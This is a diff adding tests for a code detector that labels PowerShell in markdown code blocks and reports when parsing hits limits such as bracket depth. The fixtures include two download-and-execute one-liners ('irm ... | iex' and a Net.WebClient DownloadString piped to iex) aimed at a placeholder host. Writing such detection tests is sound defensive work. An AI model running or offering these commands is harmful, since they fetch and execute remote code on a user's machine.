@@ -71,3 +71,16 @@ describe("the rows of the extended corpus", () => {
     expect(found).not.toEqual(wanted);
   });
 });
+
+describe("the outcome of PowerShell", () => {
+  const nested = `${"(".repeat(200)}irm https://x.example/i | iex${")".repeat(200)}`;
+  const installer = `@"%SystemRoot%\\powershell.exe" -Command "iex ((New-Object Net.WebClient).DownloadString('https://x.example/i.ps1'))"`;
+  it.each([
+    ["is incomplete where brackets nest too deep", `\`\`\`powershell\n${nested}\n\`\`\`\n`, ["depth", "syntax"]],
+    ["is complete where the text is of another language, which reads it", `\`\`\`cmd\n${installer}\n\`\`\`\n`, []],
+  ])("%s", (_name, text, limits) => {
+    const { labels, outcome } = detector.detect(text);
+    expect(labels).toEqual(["PS"]);
+    expect(outcome.status === "incomplete" ? outcome.limits.map(({ limit }) => limit) : []).toEqual(limits);
+  });
+});
